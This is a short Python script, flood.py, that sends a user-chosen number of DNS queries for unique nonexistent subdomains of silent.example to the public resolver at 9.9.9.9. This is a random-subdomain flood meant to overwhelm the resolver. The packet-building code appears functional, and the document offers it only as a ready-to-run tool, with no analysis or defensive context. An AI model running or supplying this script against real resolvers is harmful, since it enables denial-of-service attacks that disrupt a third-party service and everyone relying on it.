#!/usr/bin/env python3
"""flood.py COUNT: asks for so many names at once that nobody answers for."""
import socket
import struct
import sys

client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.connect(("9.9.9.9", 53))
for n in range(int(sys.argv[1])):
    name = b"".join(bytes([len(label)]) + label for label in (b"n%d" % n, b"silent", b"example"))
    client.send(struct.pack("!6H", n, 0x100, 1, 0, 0, 0) + name + b"\0\0\1\0\1")
